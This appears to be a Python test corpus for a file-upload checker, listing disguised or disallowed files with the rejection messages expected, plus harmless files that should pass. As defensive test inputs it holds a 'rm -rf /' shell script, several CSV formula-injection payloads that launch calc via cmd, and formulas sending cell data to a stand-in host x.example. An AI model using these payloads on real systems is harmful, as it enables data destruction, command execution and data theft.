"""Text files, and files that are not PDFs, Office files or pictures."""

from tests.documents.corpus import CorpusFile
from tests.documents.corpus.office import docx, xlsx, zipped
from tests.documents.corpus.pdfs import objects, plain

OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def hostile():
    pdf = plain(objects())
    several = (
        ("a.pdf", xlsx(), "The name of this file ends in .pdf, but it is a spreadsheet. Upload a PDF."),
        ("a.pdf", docx(), "The name of this file ends in .pdf, but it is a Word document. Upload a PDF."),
        ("a.pdf", b"<!DOCTYPE html><p>x", "The name of this file ends in .pdf, but it is a web page. Upload a PDF."),
        ("a.pdf", b"MZ\x90\0", "The name of this file ends in .pdf, but it is a program. Upload a PDF."),
        ("a.docx", pdf, "The name of this file ends in .docx, but it is a PDF. Upload a Word document."),
        ("a.docx", xlsx(), "The name of this file ends in .docx, but it is a spreadsheet. Upload a Word document."),
        (
            "a.docx",
            zipped({"x": "y"}),
            "The name of this file ends in .docx, but it is a zip archive. Upload a Word document.",
        ),
        ("a.csv", xlsx(), "The name of this file ends in .csv, but it is a spreadsheet. Upload a CSV file."),
        ("a.csv", "a,b".encode("utf-16"), "text in UTF-16. Save it again as “CSV UTF-8”"),
        ("a.txt", b"ab\0cd", "of a type that we do not recognise. Upload a text file."),
        (
            "a.txt",
            b"\xef\xbb\xbf <?xml version='1.0'?><!-- x --> <svg onload='x'>",
            "is an SVG drawing. Upload a text file.",
        ),
        ("a.svg", b"<svg/>", "This file is an SVG drawing. Upload a PDF, "),
        ("a.html", b"<html>", "This file is a web page. Upload a PDF, "),
        (
            "a.doc",
            OLD + "WordDocument".encode("utf-16-le"),
            "an old Word document (.doc). Save it as .docx or as a PDF",
        ),
        ("a.xls", OLD + "Workbook".encode("utf-16-le"), "an old Excel workbook (.xls). Save it as .xlsx"),
        ("a.docx", OLD + "EncryptedPackage".encode("utf-16-le"), "locked with a password. Remove the password"),
        ("a.msg", OLD + "__properties_version1.0".encode("utf-16-le"), "an Outlook message. Save it as a PDF"),
        ("a.doc", OLD, "an old or locked Office file"),
        ("a.rtf", b"{\\rtf1", "a rich text file. Save it as a PDF or .docx"),
        (
            "a.odt",
            zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
            "an OpenDocument file. Save it as .docx",
        ),
        ("a.zip", zipped({"x": "y"}), "This file is a zip archive."),
        ("a.7z", b"7z\xbc\xaf\x27\x1c", "an archive. Extract the files"),
        ("a.gz", b"\x1f\x8b\x08", "an archive. Extract the files"),
        ("a.exe", b"MZ\x90\0", "a program."),
        ("a.sh", b"#!/bin/sh\nrm -rf /", "a program."),
        ("a", b"\x7fELF", "a program."),
        ("a.mp3", b"ID3\x03", "an audio or video file"),
        ("a.docm", docx(), "You cannot upload .docm files."),
        ("a.py", b"print()", "You cannot upload .py files."),
        ("a.doc", pdf, "ends in .doc, but it is a PDF. Rename it so that it ends in .pdf"),
        ("a.csv", b"name,cost\n=cmd|' /C calc'!A0,1\n", "a formula that starts another program"),
        ("a.csv", b"name,\"@SUM(1+9)*cmd|'/C calc'!A0\"\n", "a formula that starts another program"),
        ("a.csv", b"name;-2+3+cmd|'/C calc'!A0\n", "a formula that starts another program"),
        ("a.csv", b"name\r=cmd|'/C calc'!A0\r", "a formula that starts another program"),
        ("a.csv", "name,\uff1dcmd|'/C calc'!A0\n".encode(), "a formula that starts another program"),
        ("a.csv", b'name,"=A1&WEBSERVICE(""https://x.example/""&A2)"\n', "a formula that starts another program"),
        ("a.csv", b'name,=IMPORTXML("https://x.example","a")\n', "a formula that starts another program"),
        ("a.csv", b'name\n=IMAGE("https://x.example/"&A1)\n', "a formula that starts another program"),
    )
    for number, (name, data, words) in enumerate(several, start=1):
        yield CorpusFile(f"{number}: {name}, {words[:40]}", name, data, words)
    slides = zipped({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<a/>"})
    yield CorpusFile("slides", "a.pptx", slides, "a PowerPoint presentation. Save it as a PDF")
    binary = zipped({"[Content_Types].xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"})
    yield CorpusFile("binary workbook", "a.xlsb", binary, "a binary workbook (.xlsb). Save it as .xlsx")


def harmless():
    yield CorpusFile("CSV", "staff.csv", b"role,count\nteacher,3\n")
    yield CorpusFile("CSV of Windows", "staff.csv", "caf\xe9,3\r\n".encode("cp1252"))
    yield CorpusFile("CSV with a mark of UTF-8", "staff.csv", "\ufeffcafé,3\r\n".encode())
    yield CorpusFile(
        "CSV with bars and minus signs",
        "staff.csv",
        b"- Maths | English!,-3\n=SUM(A1:A9),+44 1632 960001\n@name|x,-a|b\n",
    )
    yield CorpusFile("text", "notes.txt", "naïve – café".encode())
    yield CorpusFile(
        "text with a list of pictures", "notes.txt", b"- Image (1).png\n- RTD (bus times)\n- Webservice, import(s)\n"
    )
    yield CorpusFile("text about a formula", "notes.txt", b"Never open =cmd|' /C calc'!A0 in Excel.")
    yield CorpusFile("text that begins like a bitmap", "BMI.txt", b"BMI of pupils")
    yield CorpusFile("text with dots in its name", "Minutes 3.11.26 J.Smith", b"Minutes")
    yield CorpusFile("blank beginning", "notes.txt", b" " * 9_999 + b"x")
    yield CorpusFile("comments without end", "notes.txt", b"<!-- " * 2_000)
